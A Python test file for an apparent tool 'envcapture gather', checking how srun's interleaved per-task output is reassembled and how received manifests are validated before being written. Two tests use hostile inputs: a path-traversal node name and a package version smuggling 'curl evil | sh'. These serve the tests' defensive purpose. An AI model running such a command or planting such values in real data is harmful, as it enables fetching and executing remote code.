"""`envcapture gather` without a cluster: srun missing, and the framing of srun's labeled streams."""

from __future__ import annotations

import json
import os
import sys

from envcapture.gather import collect_streams, frame

from .conftest import envcapture


def labeled(task: int, text: str, width: int = 1) -> str:
    return "".join(f"{task:>{width}}: {line}\n" for line in text.splitlines())


def test_missing_srun_is_one_line_and_exit_3(tmp_path):
    proc = envcapture("gather", "-o", tmp_path / "out", env={"PATH": os.path.dirname(sys.executable)})
    assert proc.returncode == 3
    assert proc.stderr.count("\n") == 1 and "srun not found" in proc.stderr
    assert not (tmp_path / "out").exists()


def test_interleaved_labeled_frames_come_apart_per_task():
    documents = {0: json.dumps({"node": "a" * 5000}).encode(), 1: json.dumps({"node": "b"}).encode(),
                 10: b'{"x": 1}'}
    streams = {task: labeled(task, frame(f"n{task}", doc), width=2).splitlines(True)
               for task, doc in documents.items()}
    # srun interleaves the tasks' lines arbitrarily
    mixed = [line for group in zip(*(streams[t] for t in (0, 1))) for line in group]
    mixed += streams[0][len(streams[1]):] + streams[10]
    received, failures, _ = collect_streams("".join(mixed), "")
    assert failures == []
    assert {r.task: (r.node, r.document) for r in received} == {t: (f"n{t}", d) for t, d in documents.items()}


def test_a_cut_or_corrupted_frame_is_a_failure_not_a_manifest():
    good = frame("n1", b'{"a": 1}').splitlines()
    cut = "\n".join(good[:-1]) + "\n"
    corrupted = "\n".join([good[0], good[1][:-4] + "AAAA", *good[2:]]) + "\n"
    stderr = "srun: error: n2: task 1: Exited with exit code 1\n" + labeled(1, "envcapture: boom")
    received, failures, _ = collect_streams(labeled(0, cut) + labeled(1, corrupted), stderr)
    assert received == []
    assert [f.line() for f in failures] == ["task 0: its manifest was cut short (the task was killed while "
                                            "writing it?)", "n2 (task 1): boom"]


def test_a_hostile_node_name_does_not_name_the_file():
    received, _, _ = collect_streams(labeled(0, frame("../../etc/passwd", b"{}")), "")
    assert received[0].node == "task-0"


def test_each_received_manifest_is_validated_before_it_is_written(tmp_path):
    from pathlib import Path

    from envcapture.compare.many import ManifestSet
    from envcapture.gather import Received, write_manifests

    good = (Path(__file__).resolve().parents[1] / "fixtures" / "compare" / "node-1.json").read_bytes()
    spoiled = json.loads(good)
    spoiled["python_packages"][0]["version"] = "1.0; curl evil | sh"
    (tmp_path / "n3.json").write_text("my notes\n")
    received = [Received(0, "n1", good), Received(1, "n2", json.dumps(spoiled).encode()),
                Received(2, "n3", good), Received(3, "n4", b"{not json")]
    paths, failures = write_manifests(tmp_path, received, ManifestSet())
    assert [p.name for p in paths] == ["n1.json"] and (tmp_path / "n1.json").read_bytes() == good
    lines = [f.line() for f in failures]
    assert lines[0].startswith("n2 (task 1): its manifest: invalid manifest (1 problem(s)); first: python_packages[0]")
    assert lines[1] == f"n3 (task 2): {tmp_path / 'n3.json'} exists and is not an envcapture manifest: not overwritten"
    assert lines[2].startswith("n4 (task 3): its manifest: not valid JSON")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["n1.json", "n3.json"]
    assert (tmp_path / "n3.json").read_text() == "my notes\n"
